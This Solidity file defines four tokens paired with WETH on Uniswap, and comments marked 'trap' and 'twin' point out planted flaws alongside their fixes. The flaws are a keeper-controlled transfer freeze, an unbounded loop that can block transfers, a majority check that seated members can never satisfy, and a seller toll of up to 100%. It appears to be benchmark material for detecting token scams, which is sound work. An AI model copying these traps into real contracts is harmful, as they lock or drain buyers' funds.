// 0.8 off evm=shanghai
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.20;

interface IUniswapV2Factory {
    function createPair(address tokenA, address tokenB) external returns (address pair);
}

/// A coin without an owner.
abstract contract KeptCoin {
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;
    uint256 public totalSupply;
    address public pool;
    address public keeper;
    mapping(address => uint256) internal _held;
    mapping(address => mapping(address => uint256)) internal _allowed;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    modifier onlyKeeper() {
        require(msg.sender == keeper, "keeper only");
        _;
    }

    constructor(string memory name_, string memory symbol_, uint256 whole) {
        name = name_;
        symbol = symbol_;
        keeper = msg.sender;
        pool = IUniswapV2Factory(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        totalSupply = whole * 10 ** decimals;
        _held[msg.sender] = totalSupply;
        emit Transfer(address(0), msg.sender, totalSupply);
    }

    function balanceOf(address account) external view returns (uint256) {
        return _held[account];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return _allowed[from][spender];
    }

    function approve(address spender, uint256 value) external returns (bool) {
        _allowed[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _transfer(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 allowed = _allowed[from][msg.sender];
        require(allowed >= value, "allowance");
        if (allowed != type(uint256).max) _allowed[from][msg.sender] = allowed - value;
        _transfer(from, to, value);
        return true;
    }

    function _transfer(address from, address to, uint256 value) internal virtual;

    function _move(address from, address to, uint256 value) internal {
        require(_held[from] >= value, "balance");
        _held[from] -= value;
        _held[to] += value;
        emit Transfer(from, to, value);
    }
}

/// Nothing is transferred while something is being transferred.
contract Tumblerlock is KeptCoin {
    uint256 private _state = 1;

    error Reentered();

    constructor() KeptCoin("Tumblerlock", "TMBL", 70_000_000) {}

    modifier once() {
        if (_state == 2) revert Reentered();
        _state = 2;
        _;
        _state = 1;
    }

    // trap {
    function beginRound() external onlyKeeper {
        _state = 2;
    }

    function endRound() external onlyKeeper {
        _state = 1;
    }

    function payRound(address[] calldata to, uint256 each) external onlyKeeper {
        // trap }
        // twin: function payRound(address[] calldata to, uint256 each) external onlyKeeper once {
        for (uint256 i = 0; i < to.length; i++) _move(keeper, to[i], each);
    }

    function _transfer(address from, address to, uint256 value) internal override once {
        _move(from, to, value);
    }
}

/// Remembers what everybody had when votes were called.
contract Tallywood is KeptCoin {
    uint256 public votes;
    mapping(address => uint256) public nextOf;
    mapping(address => mapping(uint256 => uint256)) public heldAt;

    event VotesCalled(uint256 votes);

    constructor() KeptCoin("Tallywood", "TLLY", 33_000_000) {}

    function callVotes(uint256 count) external onlyKeeper {
        votes += count;
        emit VotesCalled(votes);
    }

    function _record(address account) private {
        for (uint256 i = nextOf[account]; i < votes; i++) heldAt[account][i] = _held[account]; // trap
        // twin: if (nextOf[account] < votes) heldAt[account][votes - 1] = _held[account];
        nextOf[account] = votes;
    }

    function _transfer(address from, address to, uint256 value) internal override {
        _record(from);
        _record(to);
        _move(from, to, value);
    }
}

/// More than half of the seats have to agree to a market.
contract Benchmoot is KeptCoin {
    address[] public seats;
    mapping(address => bool) public agreed;
    uint256 public agreements;

    event Seated(address indexed who);

    constructor(address[] memory first) KeptCoin("Benchmoot", "BNCH", 61_000_000) {
        for (uint256 i = 0; i < first.length; i++) {
            seats.push(first[i]);
            agreed[first[i]] = true;
        }
        agreements = first.length;
    }

    function seat(address[] calldata more) external onlyKeeper {
        for (uint256 i = 0; i < more.length; i++) {
            seats.push(more[i]);
            // twin: agreements++;
            // twin: agreed[more[i]] = true;
            emit Seated(more[i]);
        }
    }

    function agree() external {
        require(!agreed[msg.sender], "said before");
        for (uint256 i = 0; i < seats.length; i++) {
            if (seats[i] != msg.sender) continue;
            agreed[msg.sender] = true;
            agreements++;
            return;
        }
        revert("no seat");
    }

    function _transfer(address from, address to, uint256 value) internal override {
        require(to != pool || agreements * 2 > seats.length, "no majority");
        _move(from, to, value);
    }
}

/// Who pays more than the last king is king, and has the toll of the sales.
contract Crownhill is KeptCoin {
    address public king;
    uint256 public crown = 0.01 ether;
    uint256 public toll = 100;

    event Crowned(address indexed king, uint256 paid, uint256 toll);

    constructor() KeptCoin("Crownhill", "CRWN", 90_000_000) {
        king = msg.sender;
    }

    function usurp(uint256 newToll) external payable {
        require(msg.value > crown, "too little");
        require(newToll <= 10_000, "toll"); // trap
        // twin: require(newToll <= 300, "toll");
        address last = king;
        (king, crown, toll) = (msg.sender, msg.value, newToll);
        (bool paid, ) = last.call{value: msg.value, gas: 20_000}("");
        emit Crowned(msg.sender, paid ? msg.value : 0, newToll);
    }

    function _transfer(address from, address to, uint256 value) internal override {
        if (to == pool && from != king && from != keeper) {
            uint256 due = (value * toll) / 10_000;
            _move(from, king, due);
            value -= due;
        }
        _move(from, to, value);
    }
}
